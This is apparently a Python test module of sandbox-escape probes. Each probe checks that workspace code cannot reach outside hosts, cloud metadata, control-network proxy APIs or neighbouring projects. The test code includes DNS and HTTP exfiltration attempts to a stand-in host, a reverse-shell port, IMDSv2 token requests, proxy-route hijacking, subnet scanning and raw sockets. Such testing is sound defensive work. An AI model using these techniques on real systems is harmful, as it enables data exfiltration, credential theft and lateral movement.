"""From inside a workspace to the outside, the host, other projects and the control services: by any packet."""

from collections.abc import Callable

from escape.probes import Probe

OPEN, CONTROL, NEIGHBOUR, LINK = "open", "control", "neighbour", "link-local"

_HTTP = 'tcp(V["outside"], {port}, b"GET / HTTP/1.0\\r\\n\\r\\n", MARK)'
_UDP = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(b"rows", (V["outside"], {port}))
got = s.recv(200)
return got if b"OUTSIDE" in got else refuse("another answer")
"""
_DNS = """
question = b"".join(bytes([len(x)]) + x for x in {name}.split(b".")) + b"\\0" + struct.pack(">HH", {kind}, 1)
s = socket.socket(socket.AF_INET, {proto})
s.settimeout(2)
s.sendto(b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + question, ({server}, 53))
got = s.recv(500)
return "answered" if got[3] & 15 == 0 and got[7] else refuse(f"no address, code {{got[3] & 15}}")
"""
_RAW = """
s = socket.socket({family}, {kind}, {proto})
return "a socket"
"""


def _of(code: str) -> str:
    return code.replace("MARK", 'b"OUTSIDE-REACHED"')


Add = Callable[..., None]


def probes() -> list[Probe]:
    """All of them. `V`: outside, outside6, outside_name, gateway and port of a listener, and so on."""
    found: list[Probe] = []

    def add(name: str, code: str, twin: str = OPEN, seconds: float = 6) -> None:
        found.append(Probe(name, code, twin, "no way out", seconds))

    for part in (_ports, _names, _other_forms, _metadata_and_host, _control, _neighbours, _raw_sockets):
        part(add)
    return found


def _ports(add: Add) -> None:
    """The outside by address, at ports that a firewall might leave open."""
    for port, what in ((80, "HTTP"), (443, "HTTPS's port"), (8080, "another web port"), (3128, "a forward proxy")):
        add(f"a TCP connection to the outside, {what}", _of(f"return {_HTTP.format(port=port)}"))
    lines = {21: "FTP", 22: "SSH", 25: "mail", 53: "DNS over TCP", 465: "mail over TLS", 993: "IMAP", 1194: "a VPN",
             4444: "a reverse shell", 6667: "IRC", 8443: "another TLS port"}  # fmt: skip
    for port, what in lines.items():
        add(
            f"a TCP connection to the outside, {what}",
            _of(f'return tcp(V["outside"], {port}, b"x", MARK)'),
        )
    datagrams = {123: "NTP", 443: "QUIC", 514: "syslog", 1194: "a VPN", 4500: "IPsec", 51820: "WireGuard"}
    for port, what in datagrams.items():
        add(f"a datagram to the outside, {what}", _UDP.format(port=port))


def _names(add: Add) -> None:
    """The outside by name, and rows in the questions themselves."""
    add("rows in a DNS question to the outside's own server", _DNS.format(
        name='b"rows.of.alpha.example"', kind=1, proto="socket.SOCK_DGRAM", server='V["outside"]'))  # fmt: skip
    add("a DNS answer with text from the outside", _DNS.format(
        name='b"commands.example"', kind=16, proto="socket.SOCK_DGRAM", server='V["outside"]'))  # fmt: skip
    add("the outside's name, by the resolver given", 'return socket.gethostbyname("outside.example")')
    add(
        "the outside's name in any family",
        'return socket.getaddrinfo("outside.example", 80, type=socket.SOCK_STREAM)[0][4]',
    )
    add("the outside's name with a dot at its end", 'return socket.gethostbyname("outside.example.")')
    add(
        "the outside's name, asked of the engine's resolver",
        _DNS.format(name='b"outside.example"', kind=1, proto="socket.SOCK_DGRAM", server='"127.0.0.11"'),
    )


def _other_forms(add: Add) -> None:
    """The outside's web page by other forms of address, connection and packet."""
    add("its web page by name", 'return http("http://outside.example/", expect="OUTSIDE")')
    add("its web page by IPv6", _of('return tcp(V["outside6"], 80, b"GET / HTTP/1.0\\r\\n\\r\\n", MARK)'))
    add(
        "its web page by IPv6 within a scope",
        "import re\nlines = [l.split() for l in open('/proc/net/if_inet6')]\n"
        "return [l[5] for l in lines if l[3] in ('00', '20') and l[5] != 'lo'] or refuse('no address')",
    )
    add(
        "an IPv4 address dressed as IPv6",
        _of('return tcp("::ffff:" + V["outside"], 80, b"GET / HTTP/1.0\\r\\n\\r\\n", MARK)'),
    )
    add("an address written as a number", _of(
        'n = struct.unpack(">I", socket.inet_aton(V["outside"]))[0]\n'
        'return tcp(str(n), 80, b"GET / HTTP/1.0\\r\\n\\r\\n", MARK)'))  # fmt: skip
    add("an upload by PUT", 'return http(f"http://{V[\'outside\']}/in", "PUT", b"rows", expect="OUTSIDE")')
    add(
        "an upload in small pieces by a path", 'return http(f"http://{V[\'outside\']}/rows-of-alpha", expect="OUTSIDE")'
    )
    add("a connection that is opened first and used later (fast open)", _of(
        's = socket.socket()\n'
        's.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, (V["outside"], 80))\n'
        's.settimeout(2)\ngot = b""\nwhile part := s.recv(999): got += part\nreturn "reached" if MARK in got else refuse("closed")'))  # fmt: skip
    add("a connection from a chosen source port", _of(
        's = socket.socket()\ns.settimeout(2)\ns.bind(("0.0.0.0", 5353))\ns.connect((V["outside"], 80))\nreturn "reached"'))  # fmt: skip
    add("a package index as the outside", 'return http(f"http://{V[\'outside\']}/simple/", expect="OUTSIDE")')
    add("an echo request (ping socket)", _of(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.settimeout(2)\n'
        's.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1rows-of-alpha", (V["outside"], 0))\nreturn s.recv(99)[:8]'))  # fmt: skip
    add("a broadcast to whoever listens", _of(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\n'
        's.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ns.sendto(b"rows", ("255.255.255.255", 123))\n'
        'got = s.recv(99)\nreturn got if MARK in got else refuse("another")'))  # fmt: skip


def _metadata_and_host(add: Add) -> None:
    """The metadata service of a cloud, and the host."""
    add(
        "the metadata address of a cloud",
        'return http("http://169.254.169.254/latest/meta-data/", expect="OUTSIDE")',
        LINK,
    )
    add("the metadata address by IMDSv2", 'return http("http://169.254.169.254/latest/api/token", "PUT", b"", '
        '{"X-aws-ec2-metadata-token-ttl-seconds": "60"}, expect="OUTSIDE")', LINK)  # fmt: skip
    add("the metadata address as a number", 'return http("http://2852039166/", expect="OUTSIDE")', LINK)
    add("the metadata address by DNS over TCP", _of('return tcp("169.254.169.254", 53, b"x", MARK)'), LINK)
    add("the host by its gateway, a port that listens", 'return tcp(V["gateway"], V["listener"], None)')
    add("the host by the default bridge's gateway", 'return tcp(V["docker0"], V["listener"], None)')
    add("the host by its own address", 'return tcp(V["host"], V["listener"], None)')


def _control(add: Add) -> None:
    """The services of the control network."""
    for name, port in (("airlock", 8082), ("proxy-api", 8001)):
        add(f"{name} of the control network by name", f'return tcp("{name}", {port}, None)', CONTROL)
        add(f"{name} of the control network by address", f'return tcp(V["{name}"], {port}, None)', CONTROL)
    add(
        "the proxy's routes, without a token",
        'return http(f"http://{V[\'proxy-api\']}:8001/api/routes", expect="hub")',
        "weak hub",
    )
    add(
        "the proxy's routes by the door's name", 'return http("http://proxy:8001/api/routes", expect="hub")', "weak hub"
    )
    add("a route of its own in the proxy", 'return http("http://proxy:8001/api/routes/user/ben/beta2", "POST", '
        '{"target": "http://" + V["outside"]})', "weak hub")  # fmt: skip
    add(
        "the end of another's route in the proxy",
        'return http("http://proxy:8001/api/routes/user/mem/alpha", "DELETE")',
        "weak hub",
    )


def _neighbours(add: Add) -> None:
    """Other projects, and the edge around the proxy."""
    add("another project's workspace by name", 'return tcp(V["other_name"], 8888, None)', NEIGHBOUR)
    add("another project's workspace by address", 'return tcp(V["other"], 8888, None)', NEIGHBOUR)
    add(
        "another project's Jupyter API",
        'return tcp(V["other"], 8888, b"GET /user/ben/beta/api HTTP/1.0\\r\\n\\r\\n", b"version", sealed=True)',
        NEIGHBOUR,
    )
    add("the names of another project's network", 'return socket.gethostbyname(V["other_name"])', NEIGHBOUR)
    add("every address of another project's network", """
import concurrent.futures as f, ipaddress
def up(a):
    s = socket.socket(); s.settimeout(1)
    return str(a) if s.connect_ex((str(a), 8888)) in (0, 111) else None
with f.ThreadPoolExecutor(40) as pool:
    seen = [a for a in pool.map(up, ipaddress.ip_network(V["other_net"]).hosts()) if a]
return seen or refuse("none answers")
""", NEIGHBOUR, 12)  # fmt: skip
    add("the names of the edge", 'return socket.gethostbyname("edge")', "front")
    add("the edge by address, around the proxy", 'return tcp(V["edge"], 8000, None)', "front")


def _raw_sockets(add: Add) -> None:
    """Sockets that make packets of their own."""
    raw = {
        "a raw ICMP socket": ("socket.AF_INET", "socket.SOCK_RAW", "socket.IPPROTO_ICMP"),
        "a raw TCP socket": ("socket.AF_INET", "socket.SOCK_RAW", "socket.IPPROTO_TCP"),
        "a raw IP socket": ("socket.AF_INET", "socket.SOCK_RAW", "socket.IPPROTO_RAW"),
        "a raw IPv6 socket": ("socket.AF_INET6", "socket.SOCK_RAW", "socket.IPPROTO_ICMPV6"),
        "a packet socket, to listen": ("socket.AF_PACKET", "socket.SOCK_RAW", "socket.htons(3)"),
        "a packet socket, to send ARP answers": ("socket.AF_PACKET", "socket.SOCK_DGRAM", "socket.htons(0x806)"),
    }
    for name, (family, kind, proto) in raw.items():
        add(name, _RAW.format(family=family, kind=kind, proto=proto), "root")
